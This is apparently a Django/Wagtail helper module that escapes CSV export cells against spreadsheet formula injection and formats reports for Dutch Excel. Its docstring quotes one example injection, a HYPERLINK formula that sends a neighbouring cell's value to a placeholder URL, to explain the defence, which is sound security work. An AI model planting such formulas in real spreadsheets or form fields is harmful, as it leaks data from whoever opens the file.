"""CSV downloads a spreadsheet opens as text, never as a formula someone else wrote.

Excel, LibreOffice and Google Sheets run a CSV cell that starts with ``=``, ``+``, ``-`` or
``@`` (or a tab or carriage return) as a formula. An anonymous open answer such as
``=HYPERLINK("http://…?x="&A1, "Klik hier")`` would become a live link in the admin's
download, reading the cells around it. As OWASP advises, such text is written with a
``'`` before it, which the spreadsheet takes as "this is text".

Only text is changed: a number (an int, float or Decimal) cannot hold a formula and is
written as it is, so a negative figure stays a number. Text that merely looks like a
negative number (``"-5"`` typed in an open answer) is text and gets the quote. The XLSX
download needs none of this: Wagtail writes formula-like cells as strings.
"""

import csv
import datetime
import re
from decimal import Decimal

from django.utils import timezone
from django.utils.formats import number_format
from django.utils.text import slugify

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value):
    """``value`` as a CSV cell that cannot start a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


#: The CSV dialect Dutch Excel opens without an import wizard: ``;`` between cells (a
#: comma is the decimal separator), and a byte order mark so it reads UTF-8.
CSV_DELIMITER = ";"
BYTE_ORDER_MARK = "\ufeff"


def dutch_number(value):
    """A figure with a decimal comma, as a Dutch spreadsheet reads a number ("3,5")."""
    if isinstance(value, (float, Decimal)):
        return number_format(value, use_l10n=False).replace(".", ",")
    return value


def local_moment(value, naive=False):
    """A moment in the site's time zone (``TIME_ZONE``) rather than UTC; naive for XLSX,
    which has no time zones; a date stays a date."""
    if isinstance(value, datetime.datetime) and timezone.is_aware(value):
        value = timezone.localtime(value)
        return value.replace(tzinfo=None) if naive else value.strftime("%Y-%m-%d %H:%M")
    return value


class _Echo:
    def write(self, value):
        return value


def sheet_title(title):
    """A worksheet name Excel accepts: at most 31 characters, none of ``[]:*?/\\``."""
    return re.sub(r"[\[\]:*?/\\]", " ", str(title)).strip()[:31] or "Export"


class FormulaSafeCsvMixin:
    """For a view with Wagtail's ``SpreadsheetExportMixin`` (every report): its CSV cells go
    through ``csv_cell`` after the usual preprocessing, its XLSX cells are left alone. The
    CSV is in the Dutch dialect (``;``, decimal commas, a byte order mark); moments are in
    the site's time zone in both files. The
    file is named after the report in the editor's language ("evaluatie-per-vraag-…"),
    and so is the XLSX sheet, instead of Wagtail's "Sheet1"."""

    def preprocess_field_value(self, field, value, export_format):
        if export_format == self.FORMAT_CSV:
            if isinstance(value, datetime.datetime):
                return local_moment(value)
            value = super().preprocess_field_value(field, value, export_format)
            return dutch_number(csv_cell(value))
        if isinstance(value, datetime.datetime):
            return local_moment(value, naive=True)
        return super().preprocess_field_value(field, value, export_format)

    def stream_csv(self, queryset):
        """Wagtail's CSV, in the Dutch dialect: a byte order mark, then rows with ``;``
        between the cells and decimal commas in the figures."""
        writer = csv.DictWriter(_Echo(), fieldnames=self.list_export, delimiter=CSV_DELIMITER)
        yield BYTE_ORDER_MARK + writer.writerow(
            {field: self.get_heading(queryset, field) for field in self.list_export}
        )
        for item in queryset:
            yield self.write_csv_row(writer, self.to_row_dict(item))

    def export_name(self):
        """The report's title as a file name: "modules-aan-herziening-toe"."""
        return slugify(str(self.page_title))

    def write_xlsx(self, queryset, output):
        """Wagtail's ``write_xlsx``, with the report's title as the sheet's name."""
        from openpyxl import Workbook
        from wagtail.admin.views.mixins import ExcelDateFormatter

        workbook = Workbook(write_only=True, iso_dates=True)
        worksheet = workbook.create_sheet(title=sheet_title(self.page_title))
        worksheet.append(self.get_heading(queryset, field) for field in self.list_export)
        date_format = ExcelDateFormatter().get()
        for item in queryset:
            worksheet.append(
                self.generate_xlsx_row(worksheet, self.to_row_dict(item), date_format=date_format)
            )
        workbook.save(output)
